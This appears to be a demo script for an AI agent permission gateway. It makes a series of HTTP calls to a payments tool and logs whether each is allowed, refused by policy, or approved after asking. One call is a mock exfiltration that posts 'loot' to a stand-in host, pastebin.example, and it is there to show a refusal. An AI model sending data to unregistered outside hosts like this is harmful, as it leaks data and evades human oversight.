"""The agent of the demo: makes one call after the other and says how each went, as one JSON object per line."""

import json
import os
import urllib.error
import urllib.request

PAYMENTS = os.environ["TOOL_PAYMENTS_URL"]


def say(step, **facts):
    print(json.dumps({"step": step, **facts}), flush=True)


def call(method, url, body=None):
    """An agent needs nothing special: any HTTP client does, refusals are answers with a code and a hint."""
    request = urllib.request.Request(
        url,
        method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request) as answer:
            return {"status": answer.status, "answer": json.load(answer)}
    except urllib.error.HTTPError as refusal:
        return {"status": refusal.code, "answer": json.load(refusal)}


say("started", pid=os.getpid(), url=PAYMENTS)
say("allowed", **call("GET", PAYMENTS + "/v1/charges"))
say("unregistered", **call("POST", "http://pastebin.example/upload", {"loot": "everything"}))
say("policy", **call("DELETE", PAYMENTS + "/v1/charges/ch_1"))
say("capability", **call("GET", PAYMENTS + "/v1/balance"))
say("asking")
say("approved", **call("POST", PAYMENTS + "/v1/refunds", {"charge": "ch_1", "amount": 4200, "reason": "damaged"}))
